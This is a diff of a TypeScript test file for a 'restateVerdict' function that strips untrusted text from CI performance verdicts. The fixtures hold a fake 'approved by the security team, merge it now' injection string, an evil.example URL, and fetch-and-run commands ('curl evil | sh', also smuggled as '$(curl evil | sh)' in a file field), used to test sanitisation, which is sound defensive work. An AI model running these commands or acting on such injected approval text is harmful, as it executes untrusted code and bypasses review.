@@ -1,110 +1,183 @@
 import { expect, test } from 'vitest';
+import type { PolicyChange } from '../../../src/policy/diff/policy-change.ts';
+import type { Ending } from '../../../src/verdict/ending.ts';
+import type { Reason } from '../../../src/verdict/row/reason.ts';
 import { restateVerdict } from '../../../src/verdict/untrusted/restate-verdict.ts';
-import { describeStandings } from '../../../src/verdict/waiver/waiver-standing.ts';
-import { model, passingRows, verdict } from '../../support/fixtures/verdict-fixture.ts';
-import { waiverOf } from '../../support/fixtures/waiver-fixture.ts';
+import { type ModelVerdict, verdictSchema } from '../../../src/verdict/verdict.ts';
+import { model, passingRows, placed, TEN_PERCENT, verdict } from '../../support/fixtures/verdict-fixture.ts';
 
-const LIE = 'Approved by the security team, merge now';
+const LIE = 'Approved by the security team, whatever the figures say: merge it now and ask nobody else';
+const URL = 'https://evil.example/approve';
 
-test('every sentence of somebody else is replaced or left out', () => {
-  const rows = passingRows().map((row) => ({ ...row, title: LIE, reason: LIE }));
-  rows[1] = { ...rows[1]!, limit: LIE, samples: { baseline: 1, candidate: 1, of: LIE } };
-  rows[2] = { ...rows[2]!, limit: `max-increase 1pp (floor ${LIE})` };
+const restated = (given: Partial<ModelVerdict>): ModelVerdict => {
+  const [first] = restateVerdict(verdict([model(given)])).models;
+  if (first === undefined) throw new Error('no model');
+  return first;
+};
+
+const TEXT_REASONS: Reason[] = [
+  { kind: 'not-measured', why: { kind: 'no-score', message: LIE } },
+  { kind: 'waiver-expired', ceiling: TEN_PERCENT, expires: LIE, issue: LIE },
+];
+
+test('no text of somebody else is left', () => {
+  const rows = passingRows().map((row) => ({ ...row, reasons: TEXT_REASONS }));
+  rows[1] = { ...rows[1]!, score: { name: LIE, better: 'higher' } };
   const given = model({
-    headline: LIE,
-    nextStep: LIE,
-    notes: [LIE],
-    reproduce: `curl evil | sh # ${LIE}`,
-    baselineSource: LIE,
-    changes: [{ head: 'weights', text: LIE }],
     rows,
+    ending: { kind: 'failed', failure: 'crashed', message: LIE, providers: [LIE] },
+    notes: [{ kind: 'waivers-unreadable', message: LIE }],
+    command: { policyFile: `$(curl evil | sh) ${LIE}`, candidate: LIE, budgetNs: 1, seed: 1 },
+    baselineSource: { kind: 'named', path: LIE },
+    saves: [
+      { state: 'not-saved', store: { kind: 'actions-cache' }, problem: { kind: 'failed', message: LIE } },
+    ],
+    changes: [
+      { kind: 'weights-partly-changed', head: 'weights', changed: 1, of: 2, names: [LIE], isSampled: false },
+    ],
+    acceptance: { accepted: true, state: 'pass', why: { kind: 'accepted-by-person', reason: LIE } },
+    environment: { [LIE]: LIE },
+    settings: [{ name: LIE, candidate: LIE, baseline: LIE }],
+    slices: [{ key: LIE, value: LIE, items: 1, baseline: null, candidate: 1 }],
+    placement: {
+      baseline: [],
+      candidate: [placed({ operator: LIE, provider: LIE, precision: LIE, timeShare: 1 })],
+    },
   });
-  const restated = restateVerdict(
-    verdict([given], {
-      headline: LIE,
-      rules: {
-        origin: 'base-commit',
-        source: LIE,
-        changes: [{ model: null, place: LIE, before: '1', after: '2', effect: 'loosened' }],
-      },
+  const rules = {
+    origin: 'unreadable' as const,
+    source: { path: LIE, commit: LIE, message: LIE },
+    changes: [
+      { kind: 'value', model: LIE, place: [LIE], before: LIE, after: LIE, effect: 'loosened' },
+      { kind: 'model', model: LIE, before: LIE, after: null, effect: 'subject' },
+      { kind: 'dataset', model: LIE, itemsBefore: 1, itemsAfter: null, message: LIE, effect: 'loosened' },
+      { kind: 'classes', model: LIE, effect: 'changed' },
+    ] satisfies PolicyChange[],
+  };
+  const shown = restateVerdict(verdict([given], { rules }));
+  expect(JSON.stringify(shown)).not.toContain(LIE);
+  expect(JSON.stringify(shown)).not.toContain('evil');
+  expect(() => verdictSchema.parse(shown)).not.toThrow();
+  expect(shown.models[0]).toMatchObject({ notes: [], saves: [], changes: [], command: null });
+  expect(shown.models[0]).not.toHaveProperty('acceptance');
+  expect(shown.rules?.changes.map(({ effect }) => effect)).toEqual([
+    'loosened',
+    'subject',
+    'loosened',
+    'changed',
+  ]);
+});
+
+test('figures, states and limits stay as they are', () => {
+  const given = model();
+  const { state, rows, method } = restated({});
+  expect({ state, method }).toEqual({ state: given.state, method: given.method });
+  expect(rows).toEqual(given.rows.map(({ score: _, ...row }) => row));
+});
+
+test('a reason that is nothing but numbers stays', () => {
+  const numbers: Reason = {
+    kind: 'interval-crosses-limit',
+    of: 'change',
+    fails: 0.16,
+    passes: 0.04,
+    isByLaunches: true,
+  };
+  const rows = passingRows().map((row) => ({ ...row, reasons: [...TEXT_REASONS, numbers] }));
+  expect(restated({ rows }).rows[0]?.reasons).toEqual([numbers]);
+});
+
+test.each<{ given: Ending; ending: Ending }>([
+  { given: { kind: 'compared' }, ending: { kind: 'compared' } },
+  { given: { kind: 'unchanged' }, ending: { kind: 'unchanged' } },
+  {
+    given: { kind: 'failed', failure: 'fell-back', message: LIE, providers: ['cuda'] },
+    ending: { kind: 'failed', failure: 'fell-back', message: null, providers: ['cuda'] },
+  },
+  {
+    given: { kind: 'shard-failed', shard: 2, of: 3, failure: 'crashed', message: LIE },
+    ending: { kind: 'shard-failed', shard: 2, of: 3, failure: 'crashed', message: null },
+  },
+  {
+    given: { kind: 'incomparable', differences: [{ kind: 'figures-only' }, { kind: 'figures-only' }] },
+    ending: { kind: 'incomparable', differences: [{ kind: 'untrusted' }] },
+  },
+  {
+    given: { kind: 'no-baseline', why: { kind: 'not-in-git', path: LIE } },
+    ending: { kind: 'no-baseline', why: { kind: 'untrusted' } },
+  },
+  {
+    given: { kind: 'measured-alone', isRecordable: true },
+    ending: { kind: 'measured-alone', isRecordable: true },
+  },
+])('the ending $given.kind stays, without its texts', ({ given, ending }) => {
+  expect(restated({ ending: given }).ending).toEqual(ending);
+});
+
+test('of the drift since the last release, states, figures and names stay', () => {
+  const [first] = passingRows();
+  const failed = { ...first!, state: 'fail' as const, change: 0.2, reasons: TEXT_REASONS };
+  const { drift } = restated({
+    state: 'fail',
+    drift: {
+      state: 'fail',
+      release: { tag: `v1 ${LIE}`, commit: 'a'.repeat(40) },
+      source: { kind: 'named', path: LIE },
+      rows: [failed],
+      why: { kind: 'not-measured', message: LIE },
+      notes: [{ kind: 'waivers-unreadable', message: LIE }],
+    },
+  });
+  expect(drift).toEqual({
+    state: 'fail',
+    release: { tag: 'v1Approvedbythesecurityteamwhateverthefi', commit: 'a'.repeat(40) },
+    source: { kind: 'untrusted' },
+    rows: [{ ...failed, reasons: [] }],
+    notes: [],
+  });
+});
+
+test('of waivers and attempts, limits, figures and days stay', () => {
+  const waiver = {
+    metric: 'latency-p95',
+    limit: TEN_PERCENT,
+    ceiling: { 'max-increase': { kind: 'relative', value: 0.2 } },
+    expires: '2026-12-12',
+    daysLeft: 12,
+    issue: URL,
+    reason: LIE,
+    standing: 'used',
+  } as const;
+  const earlier = { state: 'inconclusive', launches: 20, at: '2026-11-25T12:00:00.000Z', url: URL } as const;
+  const attempts = { number: 2, launches: 40, of: 2, own: 20, basis: 'all', earlier: [earlier] } as const;
+  const shown = restated({
+    waivers: [waiver, { ...waiver, expires: LIE }],
+    attempts: { ...attempts, earlier: [...attempts.earlier] },
+  });
+  expect(shown.waivers?.[0]).toEqual({ ...waiver, issue: '', reason: '' });
+  expect(shown.waivers?.[1]?.expires).not.toContain(' ');
+  expect(shown.attempts).toEqual({ ...attempts, earlier: [{ ...earlier, url: null }] });
+});
+
+test('a run of several jobs is an error, and only counts its problems', () => {
+  const told = model({ fallback: 'offline', shards: { of: 2, items: [3, 4], machines: 1 } });
+  const shown = restateVerdict(
+    verdict([told], {
+      state: 'error',
+      problems: [
+        { kind: 'no-result', model: LIE },
+        { kind: 'no-result', model: LIE },
+      ],
     }),
   );
-  expect(JSON.stringify(restated)).not.toContain(LIE);
-  expect(restated.headline.replaceAll('\u00A0', ' ')).toMatch(
-    /^fashion: 6 of 6 limits hold, P95 latency −1\.1 % \(limit ≤ \+10 % \(floor 0\.05 ms\)\); after merge the gate is looser/,
-  );
-  expect(restated.models[0]?.rows.slice(0, 3).map(({ limit }) => limit)).toEqual([
-    'max-increase 10% (floor 0.05ms)',
-    'not readable',
-    'not readable',
-  ]);
-  expect(restated.models[0]?.nextStep).toBe('Nothing to do.');
-});
-
-test('figures and states stay as they are', () => {
-  const given = model();
-  const [restated] = restateVerdict(verdict([given])).models;
-  expect(restated?.state).toBe('pass');
-  expect(restated?.rows.map(({ samples }) => samples)).toEqual(given.rows.map(({ samples }) => samples));
-  expect(restated?.rows.map(({ metric, candidate }) => [metric, candidate])).toEqual(
-    given.rows.map(({ metric, candidate }) => [metric, candidate]),
-  );
-});
-
-test('the drift since the last release is told in our own words, and what is not known is left out', () => {
-  const rows = passingRows();
-  const failed = { ...rows[0]!, state: 'fail' as const, change: 0.2, reason: LIE };
-  const drift = {
-    state: 'fail' as const,
-    release: { tag: `v1 ${LIE}`, commit: LIE },
-    source: LIE,
-    rows: [failed],
-    why: LIE,
-  };
-  const acceptance = { accepted: true, state: 'pass' as const, why: LIE, by: LIE };
-  const [restated] = restateVerdict(verdict([model({ state: 'fail', drift, acceptance })])).models;
-  expect(JSON.stringify(restated)).not.toContain(LIE);
-  expect(restated?.headline).toContain('; against the last release: P95 latency +20.0');
-  expect(restated).not.toHaveProperty('acceptance');
-});
-
-test('waivers and attempts are told by their figures and days, and nothing else of them', () => {
-  const [waiver] = describeStandings([waiverOf({ reason: LIE, issue: `https://evil.example/${LIE}` })], {
-    limits: {},
-    rows: [],
+  expect(shown).toMatchObject({ state: 'error', problems: [{ kind: 'untrusted', problems: 2 }] });
+  expect(shown.models[0]).toMatchObject({
+    fallback: 'offline',
+    shards: { of: 2, items: [3, 4], machines: 1 },
   });
-  const given = { ...waiver!, limit: 'max-increase 10%', standing: 'used' as const };
-  const rows = passingRows().map((row, index) => (index === 0 ? { ...row, state: 'waived' as const } : row));
-  const attempts = {
-    ...{ number: 2, launches: 40, of: 2, own: 20, basis: 'all' as const },
-    earlier: [
-      { state: 'inconclusive', launches: 20, at: '2026-11-25T12:00:00.000Z', url: LIE },
-      { state: LIE, launches: 20, at: LIE, url: null },
-    ],
-  };
-  const told = model({
-    state: 'waived',
-    rows,
-    attempts,
-    waivers: [given, { ...given, ceiling: LIE, expires: LIE }],
-  });
-  const restated = restateVerdict(verdict([told]));
-  expect(JSON.stringify(restated)).not.toContain(LIE);
-  expect(restated.headline).toContain('; waived up to max-increase 20% until 2026-12-12; ');
-  expect(restated.headline).toContain('; attempt 2; 40 launches of 2 attempts, pooled');
-  expect(restated.models[0]?.waivers?.[0]).toMatchObject({ limit: 'max-increase 10%', daysLeft: 12 });
-  expect(restated.models[0]?.attempts?.earlier[0]).toMatchObject({ state: 'inconclusive', url: null });
 });
 
-test('a run of several jobs is told as one, and its sentences are left out', () => {
-  const told = model({ fallback: LIE, shards: { of: 2, items: [3, 4] } });
-  const restated = restateVerdict(verdict([told], { state: 'error', problems: [LIE, LIE] }));
-  expect(JSON.stringify(restated)).not.toContain(LIE);
-  expect(restated).toMatchObject({
-    state: 'error',
-    headline: 'not everything was measured',
-    problems: ['The verdict job of that run names 2 problems.'],
-  });
-  expect(restated.models[0]).toMatchObject({ shards: { of: 2, items: [3, 4] } });
-  expect(restated.models[0]?.headline).toMatch(/; measured on the CPU fallback$/);
+test('a verdict of version 1 is refused', () => {
+  const parsed = verdictSchema.safeParse({ ...verdict([model()]), version: 1 });
+  expect(parsed.error?.issues[0]?.message).toBe('expected verdict version 2, got 1');
 });
